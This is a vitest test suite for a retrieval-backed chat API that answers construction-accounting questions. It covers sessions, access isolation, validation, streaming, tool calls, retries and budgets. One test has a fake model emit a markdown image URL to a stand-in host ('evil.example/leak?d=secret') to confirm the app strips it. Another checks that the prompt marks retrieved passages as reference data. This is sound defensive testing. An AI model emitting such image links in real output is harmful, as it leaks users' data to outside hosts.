import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { SendChatResponse } from '@contract/chat';
import { buildTestApp } from '../../test/app';
import { createTestDatabase, databaseKinds, type TestDatabase } from '../../test/databases';
import { FakeIssuer } from '../../test/fake-issuer';
import { FakeOpenAI } from '../../test/fake-openai';
import { indexGuide } from '../retrieval';
import { writeGuideFixture } from './testing/guide-fixture';
import { readEvents } from './testing/sse-client';

const AUDIENCE = 'https://kai.example.com/api';

describe.each(databaseKinds)('chat (%s)', (kind) => {
  let issuer: FakeIssuer;
  let model: FakeOpenAI;
  let database: TestDatabase;
  let withModel: Awaited<ReturnType<typeof buildTestApp>>['app'];
  let withoutModel: Awaited<ReturnType<typeof buildTestApp>>['app'];
  let baseUrl: string;

  beforeAll(async () => {
    issuer = await new FakeIssuer().start();
    model = await new FakeOpenAI().start();
    database = await createTestDatabase(kind);
    await indexGuide({ db: database.handle.db, dirs: [writeGuideFixture()] });
    const identity = { OIDC_ISSUER: issuer.issuer, OIDC_CLIENT_ID: 'spa', OIDC_AUDIENCE: AUDIENCE };
    ({ app: withoutModel } = await buildTestApp(database.handle, identity));
    ({ app: withModel } = await buildTestApp(database.handle, {
      ...identity,
      LLM_BASE_URL: model.baseUrl,
      LLM_MODEL: 'fake-model',
      LLM_MAX_RETRIES: '1',
      LLM_TIMEOUT_MS: '10000',
      KAI_DAILY_TOKEN_BUDGET: '1000',
    }));
    await withModel.listen({ port: 0, host: '127.0.0.1' });
    baseUrl = `http://127.0.0.1:${(withModel.server.address() as { port: number }).port}`;
  });
  afterAll(async () => {
    await withModel.close();
    await withoutModel.close();
    await database.dispose();
    await model.stop();
    await issuer.stop();
  });
  beforeEach(() => {
    model.requests.length = 0;
  });

  const auth = async (sub: string) => ({ authorization: `Bearer ${await issuer.sign({ sub, aud: AUDIENCE })}` });
  const send = async (app: typeof withModel, sub: string, payload: Record<string, unknown>) =>
    app.inject({ method: 'POST', url: '/api/chat', headers: await auth(sub), payload });
  const stream = async (sub: string, payload: Record<string, unknown>, signal?: AbortSignal) =>
    fetch(`${baseUrl}/api/chat`, {
      method: 'POST',
      headers: { ...(await auth(sub)), 'content-type': 'application/json', accept: 'text/event-stream' },
      body: JSON.stringify(payload),
      signal,
    });

  describe('without a model', () => {
    it('answers "how do I" from the guide with cited sentences and labelled passages', async () => {
      const res = await send(withoutModel, 'clerk-a', { message: 'How do I release retention to a sub?', source: 'structure', sessionId: 1 });
      expect(res.statusCode).toBe(200);
      const body = res.json() as SendChatResponse;
      expect(body.sessionId).toBe(1);
      expect(body.message.role).toBe('assistant');
      expect(body.message.metadata).toMatchObject({ mode: 'retrieval', source: 'structure' });
      expect(body.message.metadata?.sources?.[0]).toMatchObject({ type: 'structure', title: 'Retainage' });
      expect(body.message.content).toMatch(/^[^\n]*\[1\]/); // leads with a cited sentence
      expect(body.message.content).toContain('#### [1] Retainage');
      expect(body.message.content).toContain('Release Retainage');
      expect(body.message.content).toContain('LLM_BASE_URL');
    });

    it('says plainly when a source is not set up', async () => {
      const res = await send(withoutModel, 'clerk-a', { message: 'latest lumber prices', source: 'web', sessionId: 1 });
      expect(res.json().message.content).toContain('not set up');
    });
  });

  describe('sessions', () => {
    it('keeps every user in their own session 1', async () => {
      await send(withoutModel, 'owner-1', { message: 'How do I add a vendor?', sessionId: 1 });
      const mine = await withoutModel.inject({ url: '/api/chat/1/messages', headers: await auth('owner-1') });
      expect(mine.json()).toHaveLength(2);
      const theirs = await withoutModel.inject({ url: '/api/chat/1/messages', headers: await auth('intruder-1') });
      expect(theirs.statusCode).toBe(200);
      expect(theirs.json()).toEqual([]);
    });

    it("answers 404 for another user's session, whatever the verb", async () => {
      const created = await send(withoutModel, 'owner-2', { message: 'What is retainage?' });
      const number = created.json().sessionId as number;
      expect(number).toBeGreaterThan(0);
      const intruder = await auth('intruder-2');
      for (const [method, url, payload] of [
        ['GET', `/api/chat/${number + 5}/messages`, undefined],
        ['DELETE', `/api/chat/${number + 5}/messages`, undefined],
        ['PATCH', `/api/chat/sessions/${number}`, { title: 'mine now' }],
        ['DELETE', `/api/chat/sessions/${number}`, undefined],
      ] as const) {
        const res = await withoutModel.inject({ method, url, headers: intruder, payload });
        expect(res.statusCode, `${method} ${url}`).toBe(404);
      }
      const owner = await withoutModel.inject({ url: '/api/chat/sessions', headers: await auth('owner-2') });
      expect(owner.json()).toContainEqual(expect.objectContaining({ id: number, title: 'What is retainage?', messageCount: 2 }));
    });

    it('creates, renames, clears and deletes sessions', async () => {
      const headers = await auth('organiser');
      await send(withoutModel, 'organiser', { message: 'vendor setup', sessionId: 1 });
      const created = await withoutModel.inject({ method: 'POST', url: '/api/chat/sessions', headers, payload: {} });
      expect(created.statusCode).toBe(201);
      const { id } = created.json();
      expect(id).toBe(2);
      const renamed = await withoutModel.inject({
        method: 'PATCH',
        url: `/api/chat/sessions/${id}`,
        headers,
        payload: { title: 'Retainage questions' },
      });
      expect(renamed.json()).toMatchObject({ id, title: 'Retainage questions' });
      await send(withoutModel, 'organiser', { message: 'retainage', sessionId: id });
      const cleared = await withoutModel.inject({ method: 'DELETE', url: `/api/chat/${id}/messages`, headers });
      expect(cleared.json()).toEqual({ success: true });
      expect((await withoutModel.inject({ url: `/api/chat/${id}/messages`, headers })).json()).toEqual([]);
      expect((await withoutModel.inject({ method: 'DELETE', url: `/api/chat/sessions/${id}`, headers })).statusCode).toBe(204);
      expect((await withoutModel.inject({ url: `/api/chat/${id}/messages`, headers })).statusCode).toBe(404);
    });

    it('refuses bad sends with readable 400s', async () => {
      const cases = [
        { message: '   ' },
        { message: 'x'.repeat(8001) },
        { message: 'hi', source: 'email' },
        { message: 'hi', sessionId: 'abc' },
        { message: 'hi', admin: true },
      ];
      for (const payload of cases) {
        const res = await send(withoutModel, 'validator', payload);
        expect(res.statusCode, JSON.stringify(payload).slice(0, 40)).toBe(400);
        expect(res.json().error.message).toMatch(/Invalid request body/);
      }
    });
  });

  describe('with a model', () => {
    it('streams tokens, then sources, then the stored message', async () => {
      model.reply({ kind: 'text', chunks: ['Open ', 'Release Retainage ', 'and post it [1].'] });
      const res = await stream('streamer', { message: 'How do I release retainage?', source: 'structure', sessionId: 1 });
      expect(res.headers.get('content-type')).toContain('text/event-stream');
      expect(res.headers.get('x-kai-process')).toMatch(/\/\d+$/);
      const events = await readEvents(res);
      const tokens = events.filter((e) => e.type === 'token').map((e) => (e.data as { text: string }).text);
      expect(tokens.join('')).toBe('Open Release Retainage and post it [1].');
      const types = events.map((e) => e.type);
      expect(types.indexOf('sources')).toBeGreaterThan(types.lastIndexOf('token'));
      expect(types.at(-1)).toBe('message');
      const stored = events.at(-1)!.data as SendChatResponse;
      expect(stored.message.content).toBe('Open Release Retainage and post it [1].');
      expect(stored.message.metadata?.sources?.[0].title).toBe('Retainage');

      const prompt = JSON.stringify(model.requests[0].body.messages);
      expect(prompt).toContain('<passages>');
      expect(prompt).toContain('reference DATA');
    });

    it("sends the session's earlier turns to the model, oldest first, and nothing from other sessions", async () => {
      model.reply({ kind: 'text', chunks: ['First answer.'] });
      await send(withModel, 'historian', { message: 'First question about retainage', sessionId: 1 });
      const other = await withModel.inject({ method: 'POST', url: '/api/chat/sessions', headers: await auth('historian') });
      await send(withModel, 'historian', { message: 'Question in another chat', sessionId: other.json().id });
      model.requests.length = 0;

      await send(withModel, 'historian', { message: 'Second question', sessionId: 1 });
      const turns = model.requests[0].body.messages.map((m) => `${m.role}: ${JSON.stringify(m.content)}`);
      const first = turns.findIndex((t) => t.startsWith('user') && t.includes('First question about retainage'));
      expect(first).toBeGreaterThan(0); // after the system prompt
      expect(turns[first + 1]).toMatch(/^assistant: .*First answer\./);
      expect(turns.at(-1)).toMatch(/^user: .*Second question/);
      expect(turns.join('\n')).not.toContain('Question in another chat');
    });

    it('runs a search tool whose call arrives split across chunks', async () => {
      model.reply(
        { kind: 'tool-call', name: 'search_guide', args: { query: 'vendor maintenance 1099' }, splitInto: 4 },
        { kind: 'text', chunks: ['Use Vendor Maintenance [2].'] },
      );
      const res = await send(withModel, 'tool-user', { message: 'new sub needs setting up', source: 'structure', sessionId: 1 });
      expect(res.statusCode).toBe(200);
      expect(model.requests).toHaveLength(2);
      const followUp = JSON.stringify(model.requests[1].body.messages);
      expect(followUp).toContain('Vendor Maintenance');
      const titles = res.json().message.metadata.sources.map((s: { title: string }) => s.title);
      expect(titles).toContain('Vendor Setup');
    });

    it('asks for a plain answer at the last step when the model keeps calling tools', async () => {
      const search = { kind: 'tool-call' as const, name: 'search_guide', args: { query: 'retainage' } };
      model.reply(search, search, search, { kind: 'text', chunks: ['Release it from the subcontract [1].'] });
      const res = await send(withModel, 'looper', { message: 'retainage?', source: 'structure', sessionId: 1 });
      expect(res.json().message.content).toBe('Release it from the subcontract [1].');
      const choices = model.requests.map((r) => (r.body as { tool_choice?: string }).tool_choice);
      expect(choices).toEqual(['auto', 'auto', 'auto', 'none']);
    });

    it('says so when the model returns an empty answer', async () => {
      model.reply({ kind: 'text', chunks: [] });
      const res = await send(withModel, 'empty-user', { message: 'retainage?', sessionId: 1 });
      expect(res.json().message.content).toContain('returned an empty answer');
      expect(res.json().message.metadata.error).toBe('empty_answer');
    });

    it('retries a 429 and then answers', async () => {
      model.reply({ kind: 'status', status: 429, retryAfter: 0 }, { kind: 'text', chunks: ['Recovered.'] });
      const res = await send(withModel, 'retry-user', { message: 'retainage', sessionId: 1 });
      expect(res.json().message.content).toBe('Recovered.');
      expect(model.requests.length).toBe(2);
    });

    it('puts a clear message in the chat when the model keeps failing', async () => {
      model.reply({ kind: 'status', status: 500 });
      const res = await send(withModel, 'fail-user', { message: 'retainage', sessionId: 1 });
      expect(res.statusCode).toBe(200);
      expect(res.json().message.content).toContain("couldn't get an answer from the language model");
      expect(res.json().message.metadata.error).toContain('500');
    });

    it('never stores remote images from model output', async () => {
      model.reply({ kind: 'text', chunks: ['See ![chart](https://evil.example/leak?d=', 'secret) here.'] });
      const res = await send(withModel, 'image-user', { message: 'retainage', sessionId: 1 });
      expect(res.json().message.content).not.toContain('evil.example');
    });

    it('stops the model call within 2 s when the client goes away, and keeps what was said', async () => {
      model.reply({ kind: 'slow', chunk: 'word ', everyMs: 100, max: 300 });
      const controller = new AbortController();
      const res = await stream('leaver', { message: 'retainage', sessionId: 1 }, controller.signal);
      const reader = res.body!.getReader();
      await reader.read();
      const abortedAt = Date.now();
      controller.abort();
      await expect.poll(() => model.clientAbortedAt ?? 0, { timeout: 5000 }).toBeGreaterThanOrEqual(abortedAt);
      expect(model.clientAbortedAt! - abortedAt).toBeLessThan(2000);
      await expect
        .poll(
          async () => {
            const list = (await withModel.inject({ url: '/api/chat/1/messages', headers: await auth('leaver') })).json();
            return list.at(-1)?.metadata?.stopped ?? false;
          },
          { timeout: 5000 },
        )
        .toBe(true);
    });

    it('refuses with 429 once the daily token budget is spent', async () => {
      model.reply({ kind: 'text', chunks: ['ok'] });
      for (let i = 0; i < 20; i++) {
        const res = await send(withModel, 'big-spender', { message: 'retainage', sessionId: 1 });
        if (res.statusCode === 429) {
          expect(res.json().error.code).toBe('daily_budget_exhausted');
          expect(i).toBeGreaterThan(0);
          return;
        }
      }
      throw new Error('the budget never ran out');
    });
  });
});
